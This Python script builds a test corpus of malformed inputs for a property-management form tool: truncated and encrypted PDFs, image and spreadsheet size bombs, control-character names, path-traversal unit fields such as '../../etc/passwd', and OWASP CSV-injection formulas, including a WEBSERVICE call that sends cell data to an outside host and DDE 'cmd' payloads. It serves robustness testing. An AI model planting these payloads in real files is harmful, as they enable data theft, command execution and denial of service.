"""Write the bad-input corpus (scans, sheets, JSON data a clerk might be handed) into a folder."""
from __future__ import annotations

import io
import json
import struct
import sys
import zlib
from pathlib import Path

BAD = Path(__file__).resolve().parent / "bad"

# an owner row as `records import owners` reads it; the demo has unit 1-1-101
OWNER_HEADER = ["房号", "业主姓名", "业主类型", "身份证号", "联系电话"]
UNIT_HEADER = ["房号", "小区", "楼栋", "单元", "房间", "建筑面积", "收费标准"]
CHARGE_HEADER = ["房号", "收费项目", "所属期间", "金额", "到期日"]
LONG = "张" * 5000
ID = "420102198005171232"   # valid under GB 11643 (check digit 2)
CONTROL_NAMES = {"nul": "张\x00伟", "esc": "张\x1b[31m伟", "rlo": "张\u202e伟"}
BAD_CHECK_ID = ID[:17] + "3"                  # wrong check digit: the row is refused
# text a spreadsheet would run as a formula (OWASP CSV injection): stored as text, written inert
FORMULA_CELLS = ['=WEBSERVICE("http://x/"&A1)', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
OWNER_ADDRESS_HEADER = OWNER_HEADER + ["通讯地址", "备注"]


def _png(width: int, height: int) -> bytes:
    """A real 1-bit greyscale PNG of width × height white pixels: tiny on disk, huge in memory."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    row = b"\x00" + b"\xff" * ((width + 7) // 8)
    z = zlib.compressobj(9)
    body = b"".join(z.compress(row) for _ in range(height)) + z.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def _small_pdf() -> bytes:
    from pypdf import PdfWriter
    w = PdfWriter()
    w.add_blank_page(595, 842)
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def _giant_page_pdf() -> bytes:
    """One page of 5 × 5 metres (14,400 pt, the PDF maximum): gigapixels once rendered."""
    from pypdf import PdfWriter
    w = PdfWriter()
    w.add_blank_page(14400, 14400)
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def _encrypted_pdf() -> bytes:
    from pypdf import PdfWriter
    w = PdfWriter()
    w.add_blank_page(595, 842)
    w.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def _jpeg() -> bytes:
    from PIL import Image
    buf = io.BytesIO()
    Image.new("RGB", (200, 280), "white").save(buf, "JPEG")
    return buf.getvalue()


def _csv(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    import csv
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    return buf.getvalue().encode(encoding)


def _zip(members: dict[str, str]) -> bytes:
    import zipfile
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, text in members.items():
            z.writestr(name, text)
    return buf.getvalue()


def _xlsx(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook
    wb = Workbook()
    for r in rows:
        wb.active.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _formula_xlsx() -> bytes:
    """Formula-looking text cells (as Excel keeps them when typed with a leading apostrophe),
    and one real formula in an ignored column; the ID number's check digit is wrong."""
    from openpyxl import Workbook
    wb = Workbook()
    ws = wb.active
    ws.append(OWNER_ADDRESS_HEADER)
    ws.append(["1-1-101", FORMULA_CELLS[0], "个人", BAD_CHECK_ID, "13907181234", FORMULA_CELLS[1], "=1+1"])
    for cell in ws[2][:6]:
        cell.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _dimension_bomb(ref: str = "A1:XFD1048576", extra_row: str | None = None) -> bytes:
    """A small owners sheet whose <dimension> claims every cell of the worksheet (16,384 columns
    × 1,048,576 rows) and which has 30,000 empty <row/> elements after its one good row (as
    Excel writes for formatted rows): whoever trusts the dimension pads each to 16,384 cells,
    4 GB. `extra_row`: XML added at the end of the sheet data instead (a cell far down or right)."""
    if extra_row is None:
        extra_row = "".join(f'<row r="{n}"/>' for n in range(3, 30_003))
    import re
    import zipfile
    src = io.BytesIO(_xlsx([OWNER_HEADER, ["1-1-101", "张伟", "个人", ID, "13907181234"]]))
    out = io.BytesIO()
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{ref}"'.encode(), data)
                assert ref.encode() in data
                data = data.replace(b"</sheetData>", extra_row.encode() + b"</sheetData>")
            zout.writestr(item, data)
    return out.getvalue()


def _letter(**changes) -> dict:
    """Valid dunning-letter data (the shape of `templates example dunning-letter`) with changes."""
    data = {
        "unit": "1-2-301", "unit_address": "阳光花园1栋2单元301室", "area": "98.56",
        "owner_name": "张建华", "owner_kind": "个人", "mailing_address": "阳光花园1栋2单元301室",
        "phone": "13907181234",
        "items": [{"period": "2025-10", "item": "物业服务费", "amount": "216.83", "due": "2025-10-31"},
                  {"period": "2025-11", "item": "物业服务费", "amount": "216.83", "due": "2025-11-30"}],
        "total": "433.66", "as_of": "2025-12-01", "deadline_days": 15,
        "contract": "《前期物业服务合同》",
    }
    data.update(changes)
    return data


def corpus() -> dict[str, bytes]:
    """Every bad input by its file name (the name says the scenario)."""
    pdf = _small_pdf()
    files = {
        # scans → `formsmith ingest` / `formsmith verify`
        "zero-byte.pdf": b"",
        "truncated.pdf": pdf[: len(pdf) // 2],
        "encrypted.pdf": _encrypted_pdf(),
        "jpeg-named.pdf": _jpeg(),
        "page-5m-bomb.pdf": _giant_page_pdf(),
        "text-named.pdf": "这不是PDF，是一段文字。\n".encode("utf-8"),
        "bomb-20000x20000.png": _png(20000, 20000),
        "truncated.png": _png(400, 400)[:60],
        # sheets → `formsmith records import`
        "corrupt.xlsx": b"PK\x03\x04" + b"\x00" * 200,
        "pdf-named.xlsx": pdf,
        "broken-xml.xlsx": _zip({
            "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
            "xl/workbook.xml": "<workbook><sheets><sheet"}),
        "docx-named.xlsx": _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}),
        "utf16.csv": _csv([OWNER_HEADER, ["1-1-101", "张伟", "个人", ID, "13907181234"]], "utf-16"),
        "big5.csv": _csv([["房號", "業主姓名", "業主類型", "身份證號", "聯繫電話"], ["1-1-101", "張偉", "個人", ID, "13907181234"]],
                         "big5"),
        "owners-long-5000.xlsx": _xlsx([OWNER_HEADER, ["1-1-101", LONG, "个人", ID, "13907181234"]]),
        "charges-long-5000.xlsx": _xlsx([CHARGE_HEADER, ["1-1-101", LONG, "2025-12", "100.00", "2025-12-31"]]),
        "units-slash-dotdot.csv": _csv([UNIT_HEADER, ["1-1-101/../../x", "阳光花园", "1", "1", "101",
                                                      "98.56", "2.20"]]),
        "huge-cell.csv": _csv([OWNER_HEADER, ["1-1-101", "x" * 200_000, "个人", ID, "13907181234"]]),
        "units-slash.csv": _csv([UNIT_HEADER, ["1/1/101", "阳光花园", "1", "1", "101", "98.56", "2.20"]]),
        "owners-unit-dotdot.csv": _csv([OWNER_HEADER, ["../../etc/passwd", "张伟", "个人", ID, "13907181234"]]),
    }
    files["owners-formula.csv"] = _csv([OWNER_ADDRESS_HEADER] + [
        [unit, name, "个人", BAD_CHECK_ID, "13907181234", FORMULA_CELLS[-1 - i], ""]
        for i, (unit, name) in enumerate(zip(("1-1-101", "1-1-102", "1-1-201"), FORMULA_CELLS))])
    files["owners-formula.xlsx"] = _formula_xlsx()
    files["owners-dimension-bomb.xlsx"] = _dimension_bomb()
    files["owners-row-1048576.xlsx"] = _dimension_bomb(extra_row='<row r="1048576"><c r="A1048576" '
                                                       't="inlineStr"><is><t>x</t></is></c></row>')
    files["owners-column-XFD.xlsx"] = _dimension_bomb(extra_row='<row r="3"><c r="XFD3" '
                                                      't="inlineStr"><is><t>x</t></is></c></row>')
    for key, name in CONTROL_NAMES.items():
        files[f"owners-control-{key}.csv"] = _csv([OWNER_HEADER, ["1-1-101", name, "个人", ID, "13907181234"]])
    # JSON data → `formsmith render dunning-letter --data`
    for key, name in CONTROL_NAMES.items():
        files[f"control-{key}.json"] = json.dumps(_letter(owner_name=name), ensure_ascii=False).encode()
    files["control-item.json"] = json.dumps(_letter(items=[
        {"period": "2025-11", "item": "物业\x07服务费", "amount": "433.66", "due": "2025-11-30"}]),
        ensure_ascii=False).encode()
    files["long-5000.json"] = json.dumps(_letter(owner_name=LONG), ensure_ascii=False).encode()
    files["long-address-5000.json"] = json.dumps(_letter(mailing_address="阳光花园" + "1" * 5000),
                                                 ensure_ascii=False).encode()
    files["unit-dotdot.json"] = json.dumps(_letter(unit="../../x"), ensure_ascii=False).encode()
    files["not-utf8.json"] = json.dumps(_letter(), ensure_ascii=False).encode("gb18030")
    files["truncated.json"] = json.dumps(_letter(), ensure_ascii=False).encode()[:100]
    files["list.json"] = b"[1, 2, 3]"
    files["negative-amount.json"] = json.dumps(_letter(items=[
        {"period": "2025-11", "item": "物业服务费", "amount": "-433.66", "due": "2025-11-30"}],
        total="-433.66"), ensure_ascii=False).encode()
    files["year-0001.json"] = json.dumps(_letter(as_of="0001-01-01"), ensure_ascii=False).encode()
    files["deadline-zero-days.json"] = json.dumps(_letter(deadline_days=0), ensure_ascii=False).encode()
    files["deep-nesting.json"] = b"[" * 100_000 + b"]" * 100_000     # beyond Python's recursion limit
    return files


def write(folder: Path = BAD) -> dict[str, Path]:
    """Write the corpus into `folder` (created; existing files of the same name are replaced)."""
    folder.mkdir(parents=True, exist_ok=True)
    out = {}
    for name, data in corpus().items():
        (folder / name).write_bytes(data)
        out[name] = folder / name
    return out


if __name__ == "__main__":
    for name, path in write(Path(sys.argv[1]) if len(sys.argv) > 1 else BAD).items():
        print(f"{path.stat().st_size:>9}  {path}")
